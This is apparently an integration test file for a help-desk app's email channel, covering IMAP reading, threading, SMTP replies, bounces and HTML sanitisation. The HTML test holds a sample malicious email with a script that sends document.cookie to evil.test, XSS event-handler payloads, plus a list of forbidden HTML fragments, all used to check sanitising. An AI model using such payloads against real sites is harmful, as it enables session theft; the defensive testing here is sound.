import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import * as channelsRoute from "@/app/api/channels/route";
import * as replyRoute from "@/app/api/conversation/[id]/messages/route";
import { ourMessageId } from "@/lib/channels/email/send";
import { threadToken } from "@/lib/channels/email/threading";
import { startConnectionReaders } from "@/lib/connections/readers";
import { db, pool } from "@/lib/db/client";
import { forgetEnv } from "@/lib/env";
import { deliver } from "@/lib/outbox/deliver";
import { callRoute } from "../support/call-route";
import { type Dovecot, startDovecot } from "../support/dovecot";
import { createOrganization } from "../support/factories";
import { PDF } from "../support/files";
import { type SmtpReceiver, startSmtpReceiver } from "../support/smtp-receiver";

// An organization's mailbox against a real IMAP server (Dovecot) and a real SMTP receiver: mail
// read once across restarts, dropped connections and two readers; threaded by our Message-IDs, by
// the reference in the subject and by subject, and never into another contact's thread; replies
// sent with their threading headers through the outbox, kept in Sent, and not sent twice.

// A mailbox for each test, so that none reads another's mail.
const MAILBOXES = Array.from({ length: 11 }, (_, i) => ({ user: `support${i}@shop.test`, password: `password-${i}` }));
let MAILBOX = MAILBOXES[0] as (typeof MAILBOXES)[number];
let dovecot: Dovecot;
let smtp: SmtpReceiver;
beforeAll(async () => {
  dovecot = await startDovecot(MAILBOXES);
  smtp = await startSmtpReceiver();
  process.env.MAILBOX_CHECK_SECONDS = "1";
  // Admins are told of a mailbox that cannot be read by email: this installation sends it.
  process.env.SMTP_URL = `smtp://${smtp.host}:${smtp.port}`;
  process.env.NEXTAUTH_URL ??= "http://127.0.0.1:3000";
  forgetEnv();
}, 60_000);
afterAll(async () => {
  dovecot?.stop();
  await smtp?.stop();
});

let world: Awaited<ReturnType<typeof createOrganization>>;
let connectionId: string;
const readers: ReturnType<typeof startConnectionReaders>[] = [];
const read = () => {
  const reader = startConnectionReaders();
  readers.push(reader);
  return reader;
};
afterEach(async () => {
  await Promise.all(readers.splice(0).map((reader) => reader.stop()));
});

let sent = 0;
/** A mail as a client writes one, delivered into the mailbox. */
function mail(fields: { from: string; subject: string; body: string; id?: string; headers?: string[] }) {
  const id = fields.id ?? `<m${Date.now()}.${sent++}@client.test>`;
  const raw = [
    `From: ${fields.from}`,
    `To: ${MAILBOX.user}`,
    `Subject: ${fields.subject}`,
    `Message-ID: ${id}`,
    `Date: ${new Date().toUTCString()}`,
    ...(fields.headers ?? []),
    "MIME-Version: 1.0",
    "Content-Type: text/plain; charset=utf-8",
    "",
    fields.body,
    "",
  ].join("\r\n");
  return { id, deliver: () => dovecot.deliver(MAILBOX, raw) };
}

const messagesFrom = (address: string) =>
  db.message.findMany({
    where: { conversation: { organizationId: world.organization.id }, channelIdentifier: address, isIncoming: true },
    orderBy: { createdAt: "asc" },
  });

/** Waits, as a person watching the inbox would, for `count` mails from `address` to be stored
 *  (generously: Dovecot answers a login slowly for a while after a refused one). */
async function stored(address: string, count: number) {
  await vi.waitFor(async () => expect(await messagesFrom(address)).toHaveLength(count), {
    timeout: 30_000,
    interval: 100,
  });
  return messagesFrom(address);
}

beforeEach(async () => {
  world = await createOrganization();
  MAILBOX = MAILBOXES.shift() ?? MAILBOX;
  const res = await callRoute(channelsRoute.POST, "POST", "/", {
    token: world.admin.token,
    body: {
      provider: "imap",
      name: "Support",
      address: MAILBOX.user,
      imapHost: dovecot.host,
      imapPort: dovecot.port,
      imapTls: false,
      smtpHost: smtp.host,
      smtpPort: smtp.port,
      smtpTls: false,
      username: MAILBOX.user,
      password: MAILBOX.password,
    },
  });
  expect(res.status).toBe(201);
  expect(res.body.data.check).toMatchObject({
    ok: true,
    message: `Signed in to ${MAILBOX.user} over IMAP and SMTP`,
  });
  expect(JSON.stringify(res.body)).not.toContain(MAILBOX.password);
  connectionId = res.body.data._id;
});

describe("reading a mailbox", () => {
  it("imports each mail once across a restart and a dropped connection, with one reader for two servers", async () => {
    const address = `ana${Date.now()}@client.test`;
    await mail({ from: `Ana <${address}>`, subject: "Hello", body: "First" }).deliver();
    await mail({ from: `Ana <${address}>`, subject: "Hello", body: "Second" }).deliver();
    const first = read();
    const second = read(); // another app server: it finds the mailbox taken
    const [one, two] = await stored(address, 2);
    expect([one?.body, two?.body]).toEqual(["First", "Second"]);
    const { rows } = await pool().query(
      "SELECT count(*)::int AS n FROM pg_locks WHERE locktype = 'advisory' AND objid = hashtext($1)::oid",
      [connectionId],
    );
    expect(rows[0].n).toBe(1);

    await first.stop();
    await second.stop();
    await mail({ from: address, subject: "Hello", body: "While nobody read" }).deliver();
    read();
    expect((await stored(address, 3)).map((m) => m.body)).toEqual(["First", "Second", "While nobody read"]);

    // The server drops the reader's connection: it is read again at the next look, from where it was.
    dovecot.kick(MAILBOX);
    await mail({ from: address, subject: "Hello", body: "After the drop" }).deliver();
    expect((await stored(address, 4)).map((m) => m.body)).toEqual([
      "First",
      "Second",
      "While nobody read",
      "After the drop",
    ]);
    const conversation = await db.conversation.findFirstOrThrow({ where: { channelIdentifier: address } });
    expect(conversation).toMatchObject({
      channelType: "email",
      provider: "imap",
      emailAccountId: connectionId,
      subject: "Hello",
    });
  });

  it("keeps a mail's files, leaves out one over 10 MB saying so, and reads odd headers and charsets", async () => {
    const address = `odd${Date.now()}@client.test`;
    const boundary = "b-1";
    const big = Buffer.alloc(11 * 1024 * 1024, 65)
      .toString("base64")
      .replace(/(.{76})/g, "$1\r\n");
    const raw = [
      `From: =?utf-8?B?${Buffer.from("Zoë \u0007Ökonom").toString("base64")}?= <${address}>`,
      `To: ${MAILBOX.user}`,
      `Subject: =?iso-8859-1?Q?Pr=E9sentation?= \u0001 ok`,
      "Message-ID: <odd@client.test>",
      "MIME-Version: 1.0",
      `Content-Type: multipart/mixed; boundary="${boundary}"`,
      "",
      `--${boundary}`,
      "Content-Type: text/plain; charset=x-unknown-charset",
      "",
      "Voilà the files",
      `--${boundary}`,
      'Content-Type: application/pdf; name="deck.pdf"',
      "Content-Transfer-Encoding: base64",
      'Content-Disposition: attachment; filename="deck.pdf"',
      "",
      PDF.toString("base64"),
      `--${boundary}`,
      'Content-Type: application/zip; name="huge.zip"',
      "Content-Transfer-Encoding: base64",
      'Content-Disposition: attachment; filename="huge.zip"',
      "",
      big,
      `--${boundary}--`,
      "",
    ].join("\r\n");
    await dovecot.deliver(MAILBOX, raw);
    read();
    const [message] = await stored(address, 1);
    expect(message?.body).toContain("the files");
    expect(message?.body).toContain("[huge.zip (11 MB) was not kept: files over 10 MB are left out.]");
    expect(message?.attachments).toEqual([
      expect.objectContaining({ name: "deck.pdf", contentType: "application/pdf", size: PDF.byteLength }),
    ]);
    const conversation = await db.conversation.findUniqueOrThrow({ where: { id: message?.conversationId } });
    expect(conversation.subject).toBe("Présentation   ok");
    const contact = await db.contact.findUniqueOrThrow({ where: { id: conversation.contactId } });
    expect(contact.fullName).toBe("Zoë  Ökonom");

    // No From: whoever it says sent it (Sender, Reply-To, Return-Path) wrote it; with none, it is
    // left in the mailbox and the mails after it are still read.
    const list = `list${Date.now()}@client.test`;
    await dovecot.deliver(MAILBOX, `Subject: Nobody\r\nMessage-ID: <nobody@client.test>\r\n\r\nFrom no one\r\n`);
    await dovecot.deliver(MAILBOX, `Reply-To: The List <${list}>\r\nSubject: Digest\r\n\r\nToday's digest\r\n`);
    const [digest] = await stored(list, 1);
    expect(digest).toMatchObject({
      body: "Today's digest",
      email: expect.objectContaining({ from: { email: list, name: "The List" } }),
    });
  });
});

describe("a mailbox whose password changed", () => {
  it("says why on its card, tries less often, and once fixed reads what came meanwhile", async () => {
    const fay = `fay${Date.now()}@client.test`;
    read();
    await mail({ from: fay, subject: "Hi", body: "Before" }).deliver();
    await stored(fay, 1);
    const changed = { ...MAILBOX, password: "changed-on-the-server" };
    dovecot.setPassword(MAILBOX, changed.password);
    const connection = () => db.channelConnection.findUniqueOrThrow({ where: { id: connectionId } });
    // The server drops the reader's session until it signs in again (a session that reconnected
    // before Dovecot read its changed password file would go on reading).
    await vi.waitFor(
      async () => {
        dovecot.kick(MAILBOX);
        expect(await connection()).toMatchObject({
          checkOk: false,
          checkMessage: "Cannot read the mailbox: IMAP: the server refused the username or password",
        });
      },
      { timeout: 30_000, interval: 500 },
    );
    // Its admin is told by email (a job on the queue), once however often it fails again.
    const notices = async () =>
      (
        await pool().query(
          "SELECT data->>'to' AS to, data->>'subject' AS subject, data->>'path' AS path, data->'lines' AS lines FROM pgboss.job WHERE name = 'email' AND data->>'subject' = 'Support cannot be read'",
        )
      ).rows;
    expect(await notices()).toEqual([
      expect.objectContaining({ to: world.admin.email, subject: "Support cannot be read", path: "/settings/channels" }),
    ]);
    const raw = `From: ${fay}\r\nTo: ${MAILBOX.user}\r\nSubject: Hi\r\nMessage-ID: <meanwhile@client.test>\r\n\r\nMeanwhile\r\n`;
    await dovecot.deliver(changed, raw);

    // The admin types the new password in: it is tried at once, and the mail waiting is read.
    const channelRoute = await import("@/app/api/channels/[id]/route");
    const fixed = await callRoute(channelRoute.PATCH, "PATCH", "/", {
      token: world.admin.token,
      params: { id: connectionId },
      body: { password: changed.password },
    });
    expect(fixed.status).toBe(200);
    expect((await stored(fay, 2)).map((m) => m.body)).toEqual(["Before", "Meanwhile"]);
    expect(await connection()).toMatchObject({ checkOk: true, checkMessage: `Reading ${MAILBOX.user}` });
    expect(await notices()).toHaveLength(1);
    MAILBOX = changed;
    // Dovecot slows each login from an address after refused ones (its anvil penalty, up to 15 s):
    // a loaded machine's retries and the admin's check can meet it.
  }, 60_000);
});

describe("threading", () => {
  it("joins by our Message-ID, by the reference in the subject and by subject; never another contact's thread", async () => {
    const alice = `alice${Date.now()}@client.test`;
    const bob = `bob${Date.now()}@client.test`;
    read();
    const first = mail({ from: alice, subject: "Order 42", body: "Where is my order?" });
    await first.deliver();
    const [opening] = await stored(alice, 1);
    const conversationId = opening?.conversationId ?? "";
    const token = threadToken(conversationId);

    // Our reply: through the outbox, with the headers that thread it, kept in Sent.
    const res = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "It ships today." },
    });
    expect(res.body.data.status).toBe("queued");
    await work(res.body.data._id);
    const reply = smtp.taken.at(-1);
    const ourId = ourMessageId(res.body.data._id, MAILBOX.user);
    expect(reply).toMatchObject({
      to: [alice],
      messageId: ourId,
      subject: `Re: Order 42 [#${token}]`,
      inReplyTo: first.id,
      references: [first.id],
      text: "It ships today.\n",
    });
    expect(await db.message.findUniqueOrThrow({ where: { id: res.body.data._id } })).toMatchObject({
      status: "sent",
      providerMessageId: ourId,
    });
    expect(await dovecot.sentIds(MAILBOX)).toContain(ourId);

    // Her client keeps our Message-ID; Outlook-style, another drops it but keeps the subject's reference;
    // a third writes the same subject afresh.
    await mail({ from: alice, subject: "Re: Order 42", body: "Thanks", headers: [`In-Reply-To: ${ourId}`] }).deliver();
    await mail({ from: alice, subject: `RE: Order 42 [#${token}]`, body: "One more thing" }).deliver();
    await mail({ from: alice, subject: "order 42", body: "Again" }).deliver();
    // Bob forwards her thread, reference and all, without "Fwd:": not her conversation.
    await mail({ from: bob, subject: "Order 42", body: `> Re: Order 42 [#${token}]\n> It ships today.` }).deliver();
    // Her new subject is a new conversation.
    await mail({ from: alice, subject: "Invoice please", body: "Can I have an invoice?" }).deliver();

    const hers = await stored(alice, 5);
    expect(hers.map((m) => [m.body, m.conversationId === conversationId, m.threadedBy])).toEqual([
      ["Where is my order?", true, "new"],
      ["Thanks", true, "references"],
      ["One more thing", true, "token"],
      ["Again", true, "subject"],
      ["Can I have an invoice?", false, "new"],
    ]);
    const [his] = await stored(bob, 1);
    expect(his?.conversationId).not.toBe(conversationId);
    expect(his?.threadedBy).toBe("new");
  });
});

describe("sending", () => {
  it("after a crash past SMTP and the copy in Sent, finds the reply in Sent and sends nothing again", async () => {
    const carol = `carol${Date.now()}@client.test`;
    read();
    await mail({ from: carol, subject: "Hi", body: "Hello?" }).deliver();
    const [incoming] = await stored(carol, 1);
    const res = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: incoming?.conversationId ?? "" },
      body: { body: "Hello Carol" },
    });
    const messageId = res.body.data._id;
    const ourId = ourMessageId(messageId, MAILBOX.user);
    // What a worker killed after sending leaves: the mail in Sent, only `sendingSince` recorded.
    await db.message.update({ where: { id: messageId }, data: { sendingSince: new Date(Date.now() - 2000) } });
    await dovecot.deliver(
      MAILBOX,
      `From: ${MAILBOX.user}\r\nTo: ${carol}\r\nSubject: Re: Hi\r\nMessage-ID: ${ourId}\r\n\r\nHello Carol\r\n`,
      "Sent",
    );
    const before = smtp.taken.length;
    await work(messageId, 1);
    expect(smtp.taken.length).toBe(before);
    expect(await db.message.findUniqueOrThrow({ where: { id: messageId } })).toMatchObject({
      status: "sent",
      providerMessageId: ourId,
    });
  });

  it("sends a reply's files as attachments; a refusal by the server fails it with the reason", async () => {
    const dan = `dan${Date.now()}@client.test`;
    read();
    await mail({ from: dan, subject: "Brochure?", body: "Send the brochure" }).deliver();
    const [incoming] = await stored(dan, 1);
    const conversationId = incoming?.conversationId ?? "";
    const uploadRoute = await import("@/app/api/conversation/[id]/uploads/route");
    const uploaded = await callRoute(uploadRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      query: { name: "brochure.pdf" },
      rawBody: new Uint8Array(PDF),
      headers: { "content-type": "application/octet-stream" },
    });
    const res = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "Here it is", attachments: [uploaded.body.data.id] },
    });
    await work(res.body.data._id);
    expect(smtp.taken.at(-1)?.attachments).toEqual([
      { filename: "brochure.pdf", contentType: "application/pdf", size: PDF.byteLength },
    ]);

    smtp.refuse(550);
    const refused = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "Nobody home" },
    });
    await work(refused.body.data._id);
    smtp.refuse(null);
    expect(await db.message.findUniqueOrThrow({ where: { id: refused.body.data._id } })).toMatchObject({
      status: "failed",
      failureReason: expect.stringMatching(/^SMTP: /),
    });
  });
});

describe("automatic mail", () => {
  it("a delivery report fails the reply it is about; an out-of-office reply is kept but reopens and wakes nothing", async () => {
    const erin = `erin${Date.now()}@client.test`;
    read();
    await mail({ from: erin, subject: "Quote", body: "A quote please" }).deliver();
    const [incoming] = await stored(erin, 1);
    const conversationId = incoming?.conversationId ?? "";
    const sendReply = async (body: string) => {
      const res = await callRoute(replyRoute.POST, "POST", "/", {
        token: world.admin.token,
        params: { id: conversationId },
        body: { body },
      });
      await work(res.body.data._id);
      return { id: res.body.data._id as string, messageId: ourMessageId(res.body.data._id, MAILBOX.user) };
    };
    const first = await sendReply("Here is your quote");
    const boundary = "dsn-1";
    await dovecot.deliver(
      MAILBOX,
      [
        "From: Mail Delivery System <MAILER-DAEMON@mx.client.test>",
        `To: ${MAILBOX.user}`,
        "Subject: Undelivered Mail Returned to Sender",
        "Message-ID: <dsn-1@mx.client.test>",
        "Auto-Submitted: auto-replied",
        `Content-Type: multipart/report; report-type=delivery-status; boundary="${boundary}"`,
        "",
        `--${boundary}`,
        "Content-Type: text/plain",
        "",
        "Your message could not be delivered.",
        `--${boundary}`,
        "Content-Type: message/delivery-status",
        "",
        "Reporting-MTA: dns; mx.client.test",
        "",
        `Final-Recipient: rfc822; ${erin}`,
        "Action: failed",
        "Status: 5.1.1",
        "Diagnostic-Code: smtp; 550 5.1.1 User unknown",
        `--${boundary}`,
        "Content-Type: text/rfc822-headers",
        "",
        `From: ${MAILBOX.user}`,
        `To: ${erin}`,
        `Message-ID: ${first.messageId}`,
        `--${boundary}--`,
        "",
      ].join("\r\n"),
    );
    await vi.waitFor(
      async () =>
        expect(await db.message.findUniqueOrThrow({ where: { id: first.id } })).toMatchObject({
          status: "failed",
          failureReason: "Bounced: 550 5.1.1 User unknown",
        }),
      { timeout: 30_000, interval: 100 },
    );

    // Resolved, then an out-of-office answer to our next reply.
    const second = await sendReply("Anything else?");
    await db.conversation.update({
      where: { id: conversationId },
      data: { isResolved: true, resolvedAt: new Date(), isAutopilot: true },
    });
    await mail({
      from: erin,
      subject: "Automatic reply: Quote",
      body: "I am away until Monday.",
      headers: [`In-Reply-To: ${second.messageId}`, "Auto-Submitted: auto-replied"],
    }).deliver();
    const [, away] = await stored(erin, 2);
    expect(away).toMatchObject({ conversationId, isAutomatic: true, threadedBy: "references" });
    expect(await db.conversation.findUniqueOrThrow({ where: { id: conversationId } })).toMatchObject({
      isResolved: true,
      waitingSince: null,
    });
    const kinds = await db.changeEvent.findMany({ where: { messageId: away?.id }, select: { kind: true } });
    expect(kinds).toEqual([{ kind: "message.automatic" }]);
    const autopilotTurns = async () =>
      (
        await pool().query(
          "SELECT count(*)::int AS n FROM pgboss.job WHERE name = 'autopilot' AND data->>'conversationId' = $1",
          [conversationId],
        )
      ).rows[0].n;
    expect(await autopilotTurns()).toBe(0);
    // Her own answer, by contrast, reopens the thread and wakes its autopilot.
    await mail({
      from: erin,
      subject: "Re: Quote",
      body: "Back now",
      headers: [`In-Reply-To: ${second.messageId}`],
    }).deliver();
    await stored(erin, 3);
    expect(await db.conversation.findUniqueOrThrow({ where: { id: conversationId } })).toMatchObject({
      isResolved: false,
    });
    expect(await autopilotTurns()).toBe(1);
  });
});

describe("HTML mail", () => {
  it("is sanitised when read and served for a sandboxed frame that loads no other server's image until asked", async () => {
    const gus = `gus${Date.now()}@client.test`;
    read();
    const png = Buffer.from(
      "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
      "base64",
    );
    const html = [
      "<html><head><style>body{background:url(https://tracker.test/css.png)}</style>",
      "<script>fetch('https://evil.test/steal?c='+document.cookie)</script></head><body>",
      '<p onclick="alert(1)">Hello <b>there</b></p>',
      '<a href="javascript:alert(1)">click</a> <a href="https://shop.test/order">order</a>',
      '<img src="https://tracker.test/pixel.gif" width="1" height="1" onerror="alert(2)">',
      '<div style="background-image:url(https://tracker.test/bg.png);color:red">styled</div>',
      '<img src="cid:logo@client.test" alt="logo"><iframe src="https://evil.test"></iframe>',
      '<form action="https://evil.test"><input name="q"></form><svg onload="alert(3)"></svg>',
      "</body></html>",
    ].join("\n");
    const raw = [
      `From: Gus <${gus}>`,
      `To: ${MAILBOX.user}`,
      "Subject: Newsletter",
      "Message-ID: <html-1@client.test>",
      "MIME-Version: 1.0",
      'Content-Type: multipart/related; boundary="rel"',
      "",
      "--rel",
      'Content-Type: multipart/alternative; boundary="alt"',
      "",
      "--alt",
      "Content-Type: text/plain; charset=utf-8",
      "",
      "Hello there (plain)",
      "--alt",
      "Content-Type: text/html; charset=utf-8",
      "",
      html,
      "--alt--",
      "--rel",
      "Content-Type: image/png",
      "Content-Transfer-Encoding: base64",
      "Content-ID: <logo@client.test>",
      'Content-Disposition: inline; filename="logo.png"',
      "",
      png.toString("base64"),
      "--rel--",
      "",
    ].join("\r\n");
    await dovecot.deliver(MAILBOX, raw);
    const [message] = await stored(gus, 1);
    // The plain part is the text; the inline logo is not listed as a file.
    expect(message?.body).toBe("Hello there (plain)");
    expect(message?.attachments).toEqual([]);
    const messagesRoute = await import("@/app/api/conversation/messages/route");
    const listed = await callRoute(messagesRoute.POST, "POST", "/", {
      token: world.agent.token,
      body: { conversationId: message?.conversationId },
    });
    expect(listed.status).toBe(404); // not the agent's conversation
    const mine = await callRoute(messagesRoute.POST, "POST", "/", {
      token: world.manager.token,
      body: { conversationId: message?.conversationId },
    });
    expect(mine.body.messages[0].email).toEqual({
      from: { email: gus, name: "Gus" },
      to: [{ email: MAILBOX.user, name: "" }],
      cc: [],
      subject: "Newsletter",
      html: "alternative",
      remoteImages: true,
    });

    const htmlRoute = await import("@/app/api/messages/[id]/html/route");
    const frame = await callRoute(htmlRoute.GET, "GET", "/", {
      token: world.manager.token,
      params: { id: message?.id ?? "" },
    });
    expect(frame.status).toBe(200);
    expect(frame.headers.get("content-type")).toBe("text/html; charset=utf-8");
    const policy = frame.headers.get("content-security-policy") ?? "";
    expect(policy).toContain("default-src 'none'");
    expect(policy).toContain("img-src 'self' data:;");
    expect(policy).toMatch(/sandbox allow-same-origin allow-popups/);
    expect(policy).not.toContain("allow-scripts");
    const body = frame.text.slice(frame.text.indexOf("<body>"));
    for (const bad of [
      "<script",
      "onclick",
      "onerror",
      "onload",
      "javascript:",
      "<style",
      "url(",
      "<iframe",
      "<form",
      "<input",
      "<svg",
      "document.cookie",
    ]) {
      expect(body).not.toContain(bad);
    }
    expect(frame.text).toContain("<b>there</b>");
    expect(frame.text).toContain('href="https://shop.test/order" target="_blank" rel="noopener noreferrer nofollow"');
    expect(frame.text).toContain('style="color:red"');
    expect(frame.text).toContain('src="https://tracker.test/pixel.gif"');
    // The inline logo is ours to serve, to whoever may read the conversation.
    const logo = frame.text.match(/src="\/api\/attachments\/([0-9a-f]{24})"/)?.[1] ?? "";
    const attachmentRoute = await import("@/app/api/attachments/[id]/route");
    const image = await callRoute(attachmentRoute.GET, "GET", "/", {
      token: world.manager.token,
      params: { id: logo },
    });
    expect([image.status, image.headers.get("content-type")]).toEqual([200, "image/png"]);

    const withImages = await callRoute(htmlRoute.GET, "GET", "/", {
      token: world.manager.token,
      params: { id: message?.id ?? "" },
      query: { images: "1" },
    });
    expect(withImages.headers.get("content-security-policy")).toContain("img-src 'self' data: https: http:;");
    for (const caller of [world.agent.token, (await createOrganization()).admin.token]) {
      const refused = await callRoute(htmlRoute.GET, "GET", "/", { token: caller, params: { id: message?.id ?? "" } });
      expect(refused.status).toBe(404);
    }
  });
});

describe("people copied", () => {
  it("become participants; their replies join the thread; replies copy them unless the agent says otherwise", async () => {
    const stamp = Date.now();
    const [hana, ivan, jo] = [`hana${stamp}@client.test`, `ivan${stamp}@client.test`, `jo${stamp}@client.test`];
    read();
    await mail({
      from: `Hana <${hana}>`,
      subject: "Contract",
      body: "Please review, Ivan and Jo copied",
      headers: [`Cc: Ivan <${ivan}>, ${jo}, ${MAILBOX.user}`],
    }).deliver();
    const [opening] = await stored(hana, 1);
    const conversationId = opening?.conversationId ?? "";
    const conversationRoute = await import("@/app/api/conversation/[id]/route");
    const conversation = await callRoute(conversationRoute.GET, "GET", "/", {
      token: world.admin.token,
      params: { id: conversationId },
    });
    expect(conversation.body.data.participants).toEqual([
      { email: ivan, name: "Ivan" },
      { email: jo, name: "" },
    ]);

    // Ivan answers without our headers (a new mail, same subject); Jo with the thread's reference.
    await mail({ from: ivan, subject: "RE: Contract", body: "Looks fine to me" }).deliver();
    await mail({ from: jo, subject: `Contract [#${threadToken(conversationId)}]`, body: "Agreed" }).deliver();
    await vi.waitFor(
      async () =>
        expect(
          (await db.message.findMany({ where: { conversationId }, orderBy: { createdAt: "asc" } })).map((m) => [
            (m.email as { from: { email: string } }).from.email,
            m.threadedBy,
          ]),
        ).toEqual([
          [hana, "new"],
          [ivan, "subject"],
          [jo, "token"],
        ]),
      { timeout: 30_000, interval: 100 },
    );
    // Ivan's own new subject is his own conversation.
    await mail({ from: ivan, subject: "Lunch?", body: "Unrelated" }).deliver();
    const [lunch] = await stored(ivan, 1);
    expect(lunch?.conversationId).not.toBe(conversationId);

    // A reply goes to Hana, copying Ivan and Jo; the agent may choose otherwise.
    const first = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "Thanks all" },
    });
    await work(first.body.data._id);
    expect(smtp.taken.at(-1)).toMatchObject({ to: [hana, ivan, jo], cc: [ivan, jo] });
    const chosen = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "Just you two", email: { to: [hana], cc: [ivan], subject: "Signed contract" } },
    });
    expect(chosen.body.data.email).toEqual({
      to: [{ email: hana, name: "" }],
      cc: [{ email: ivan, name: "" }],
      subject: `Signed contract [#${threadToken(conversationId)}]`,
    });
    await work(chosen.body.data._id);
    expect(smtp.taken.at(-1)).toMatchObject({
      to: [hana, ivan],
      cc: [ivan],
      subject: `Signed contract [#${threadToken(conversationId)}]`,
    });
    const bad = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.admin.token,
      params: { id: conversationId },
      body: { body: "x", email: { to: ["not an address"], cc: [] } },
    });
    expect(bad.status).toBe(400);
    expect(bad.body.errors).toEqual([{ path: "email.to.0", message: "must be an email address" }]);
  });
});

describe("a new email conversation", () => {
  it("starts from a contact as a draft of its starter's, and is a conversation once its first mail is sent", async () => {
    const kim = `kim${Date.now()}@client.test`;
    const contact = await db.contact.create({
      data: { organizationId: world.organization.id, fullName: "Kim", email: kim },
    });
    const startRoute = await import("@/app/api/contacts/[id]/email/route");
    const noEmail = await callRoute(startRoute.POST, "POST", "/", {
      token: world.agent.token,
      params: { id: world.contact.id },
      body: { subject: "Hello" },
    });
    expect([noEmail.status, noEmail.body.message]).toEqual([400, "This contact has no email address"]);
    const started = await callRoute(startRoute.POST, "POST", "/", {
      token: world.agent.token,
      params: { id: contact.id },
      body: { subject: "  Your quote  " },
    });
    expect(started.status).toBe(201);
    expect(started.body.data).toMatchObject({
      isDraft: true,
      channelType: "email",
      channelIdentifier: kim,
      subject: "Your quote",
      provider: "imap",
      emailAccountId: connectionId,
      userId: world.agent.id,
      contactId: contact.id,
      messageCount: 0,
    });
    const conversationId = started.body.data._id;
    const sent = await callRoute(replyRoute.POST, "POST", "/", {
      token: world.agent.token,
      params: { id: conversationId },
      body: { body: "Here is your quote", email: { cc: [`boss${Date.now()}@client.test`] } },
    });
    expect(sent.status).toBe(201);
    await work(sent.body.data._id);
    const out = smtp.taken.at(-1);
    expect(out).toMatchObject({ subject: `Your quote [#${threadToken(conversationId)}]`, inReplyTo: undefined });
    expect(out?.to[0]).toBe(kim);
    const after = await db.conversation.findUniqueOrThrow({ where: { id: conversationId } });
    expect(after.isDraft).toBe(false);
    // Kim's answer threads by our Message-ID.
    read();
    await mail({
      from: kim,
      subject: `Re: Your quote [#${threadToken(conversationId)}]`,
      body: "Accepted",
      headers: [`In-Reply-To: ${ourMessageId(sent.body.data._id, MAILBOX.user)}`],
    }).deliver();
    const [answer] = await stored(kim, 1);
    expect(answer).toMatchObject({ conversationId, threadedBy: "references" });
  });
});

/** Works a reply's outbound job once, as the outbox worker would. */
async function work(messageId: string, retryCount = 0) {
  const { rows } = await pool().query<{ id: string }>(
    `SELECT id FROM pgboss.job WHERE name = 'outbound' AND data->>'messageId' = $1`,
    [messageId],
  );
  await deliver({ id: rows[0]?.id ?? "job", data: { messageId }, retryCount, retryLimit: 10 });
}
